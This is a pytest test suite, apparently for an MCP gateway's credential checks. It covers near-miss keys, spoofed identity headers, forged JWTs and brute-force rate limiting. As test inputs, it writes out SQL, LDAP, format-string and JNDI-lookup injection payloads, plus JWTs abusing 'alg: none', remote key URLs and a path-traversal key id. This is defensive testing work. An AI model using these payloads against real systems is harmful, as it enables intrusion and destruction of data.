"""Who may call (cases A1 to A13): one credential, looked up whole, before anything else is looked at."""

from __future__ import annotations

import base64
import json
import time
from collections import Counter
from collections.abc import Callable
from typing import Any

import pytest

from tests.gateway import Gateway
from tests.proxy.plane import KEYS, Caller, configuration, expect_refused, message, tool_call
from tests.proxy.wire import Connection, request

GOOD = KEYS["alice"]


def _b64(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def _jwt(header: dict[str, Any], **claims: Any) -> str:
    return f"{_b64(header)}.{_b64({'sub': 'alice', 'iss': 'https://issuer.example'} | claims)}.c2lnbmF0dXJl"


def _refused(caller: Caller, headers: dict[str, Any], statuses: tuple[int, ...] = (401,)) -> str | None:
    answer = caller.post("echo", tool_call(), headers, key=None)
    if not answer.body and answer.status in (400, 431):
        assert answer.status in statuses
        return None
    expect_refused(answer, statuses, [-32600])
    if answer.status == 401:
        challenge = answer.header("www-authenticate") or ""
        assert challenge.startswith('Bearer realm="mcp-gateway"') and "resource_metadata" not in challenge
    return answer.reason


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": ""},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer "},
        {"Authorization": f"Basic {base64.b64encode(f'alice:{GOOD}'.encode()).decode()}"},
        {"Authorization": GOOD},
        {"X-API-Key": ""},
        {"X-API-Key": "  "},
    ],
)
def test_a1_no_credential(caller: Caller, headers: dict[str, str]) -> None:
    assert _refused(caller, headers) == "credential_missing"


@pytest.mark.parametrize("header", ["Authorization", "X-API-Key"])
@pytest.mark.parametrize(
    "token",
    [GOOD[:-1], GOOD + "x", GOOD.swapcase(), GOOD.upper(), GOOD + "%00", GOOD + ",", "é" * 40, "x" * 600, "a.b.c"],
    ids=["shorter", "longer", "swapped", "upper", "NUL", "comma", "not ASCII", "long", "none"],
)
def test_a2_a_key_that_is_nearly_right(caller: Caller, header: str, token: str) -> None:
    value = f"Bearer {token}" if header == "Authorization" else token
    assert _refused(caller, {header: value}) == "credential_unknown"


def test_a2_a_key_of_64_kib(caller: Caller) -> None:
    _refused(caller, {"Authorization": "Bearer " + "k" * 65_536}, (400, 401, 431))


@pytest.mark.parametrize(
    "token",
    ["' OR '1'='1", "'; DROP TABLE keys_apikey; --", "*)(uid=*))(|(uid=*", "%s%s%n", "${jndi:ldap://x/a}", "{0}"],
)
def test_a3_a_key_that_is_a_program(caller: Caller, token: str) -> None:
    assert _refused(caller, {"X-API-Key": token}) == "credential_unknown"
    assert caller.gateway.query("SELECT count(*) FROM keys_apikey")[0][0] == len(KEYS)


def test_a4_two_credentials_are_none(caller: Caller) -> None:
    both = {"Authorization": f"Bearer {GOOD}", "X-API-Key": KEYS["bob"]}
    assert _refused(caller, both) == "credential_ambiguous"
    assert _refused(caller, {"Authorization": f"Bearer {GOOD}, Bearer {KEYS['bob']}"}) == "credential_unknown"
    assert _refused(caller, {"Authorization": f"Bearer {GOOD},{GOOD}"}) == "credential_unknown"
    for name in ("Authorization", "X-API-Key"):
        value = f"Bearer {GOOD}" if name == "Authorization" else GOOD
        assert _refused(caller, {name: value, name.lower(): value}) == "credential_ambiguous"


def test_a4_the_same_key_in_both_headers_is_one_credential(caller: Caller) -> None:
    assert caller.post("echo", tool_call(), {"X-API-Key": GOOD}).status == 200


@pytest.mark.parametrize("name", ["api_key", "key", "token", "access_token", "apikey", "API_KEY"])
def test_a5_a_key_in_the_url_is_refused_even_beside_a_good_one(caller: Caller, name: str) -> None:
    body = json.dumps(tool_call()).encode()
    for key in (None, "alice"):
        answer = caller.send(f"/mcp/echo?{name}={GOOD}", body, key=key)
        expect_refused(answer, (400, 401), [-32600])
        assert answer.reason == "credential_in_url"


@pytest.mark.parametrize(
    "header",
    [
        ("X-Forwarded-User", "alice"),
        ("Remote-User", "alice"),
        ("X-User", "alice"),
        ("Cookie", f"Authorization={GOOD}; api_key={GOOD}"),
        ("X_API_Key", GOOD),
        ("Proxy-Authorization", f"Bearer {GOOD}"),
        ("X-Original-Authorization", f"Bearer {GOOD}"),
    ],
)
def test_a6_other_headers_prove_nothing(caller: Caller, header: tuple[str, str]) -> None:
    assert _refused(caller, dict([header])) == "credential_missing"


@pytest.mark.parametrize(
    "token",
    [
        _jwt({"alg": "none", "typ": "JWT"}).rpartition(".")[0] + ".",
        _jwt({"alg": "HS256"}),
        _jwt({"alg": "RS256", "jku": "http://127.0.0.1/canary"}),
        _jwt({"alg": "RS256", "x5u": "http://127.0.0.1/canary"}),
        _jwt({"alg": "HS256", "kid": "../../dev/null"}),
        _jwt({"alg": "RS256", "crit": ["exp"]}),
        "." * 500,
        _jwt({"alg": "RS256"}, aud="other"),
        _jwt({"alg": "RS256"}, iss="other"),
        _jwt({"alg": "RS256"}, exp=1),
        _jwt({"alg": "RS256"}, nbf=2**31),
        _jwt({"alg": "RS256"}, iat=2**31),
    ],
)
def test_a7_a8_a_token_of_no_configured_issuer(caller: Caller, token: str) -> None:
    assert _refused(caller, {"Authorization": f"Bearer {token}"}) == "credential_unknown"


def test_a9_revoked_and_expired_keys(caller: Caller) -> None:
    for name, reason in (("revoked", "key_revoked"), ("expired", "key_expired")):
        assert _refused(caller, {"X-API-Key": KEYS[name]}) == reason


def test_a10_a_foreign_namespace_looks_like_one_that_does_not_exist(caller: Caller) -> None:
    foreign = caller.post("open", tool_call(), key="bob")
    unknown = caller.post("no-such-namespace", tool_call(), key="bob")
    expect_refused(foreign, [404], [-32600])
    stripped = [
        [value for name, value in answer.headers if name not in ("x-request-id", "x-response-time-ms", "date")]
        for answer in (foreign, unknown)
    ]
    assert stripped[0] == stripped[1]
    assert _without_id(foreign.json) == _without_id(unknown.json)


def _without_id(document: dict[str, Any]) -> dict[str, Any]:
    document["error"]["data"].pop("requestId")
    return document


def test_a11_a_grants_rules_hold_on_top_of_the_namespaces(caller: Caller) -> None:
    assert caller.post("open", tool_call("add", {"a": 1, "b": 2}), key="dave").text == "3"
    caller.forget("sdk")
    answer = caller.post("open", tool_call("echo"), key="dave")
    expect_refused(answer, [200], [-32602])
    assert caller.names_called("sdk") == []
    listed = caller.post("open", message("tools/list"), key="dave").message["result"]["tools"]
    assert [tool["name"] for tool in listed] == ["add"]


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"jsonrpc":"2.0"}'])
@pytest.mark.parametrize("namespace", ["echo", "no-such-namespace", "disabled", "unmounted"])
def test_a12_a_bad_key_comes_first(caller: Caller, namespace: str, content: bytes) -> None:
    answer = caller.post(namespace, content, {"X-API-Key": "wrong"}, key=None)
    expect_refused(answer, [401], [-32600])
    assert answer.reason == "credential_unknown" and answer.json["id"] is None


def test_a13_many_wrong_keys_from_one_address_are_slowed_down_and_good_ones_are_not(
    plane_upstreams: dict[str, str], start_gateway: Callable[..., Gateway]
) -> None:
    guesser = Caller(start_gateway(config=configuration({**plane_upstreams}, hostile=False)), plane_upstreams)
    head = [("X-API-Key", "a wrong key"), ("Content-Type", "application/json")]
    found: Counter[int] = Counter()
    begun = time.monotonic()
    with Connection(guesser.port) as connection:
        for _ in range(3000):
            connection.send(request("/mcp/echo", b"{}", head))
            answer = connection.read()
            assert answer is not None
            found[answer.status] += 1
            if answer.status == 429:
                expect_refused(answer, [429], [-31429])
                assert answer.reason == "too_many_failures" and int(answer.header("retry-after") or 0) >= 1
    assert found.keys() == {401, 429}
    assert 200 <= found[401] <= 200 + 600 / 60 * (time.monotonic() - begun) + 1
    assert guesser.post("echo", tool_call()).status == 200
    assert guesser.post("echo", tool_call(), key=None).status == 401
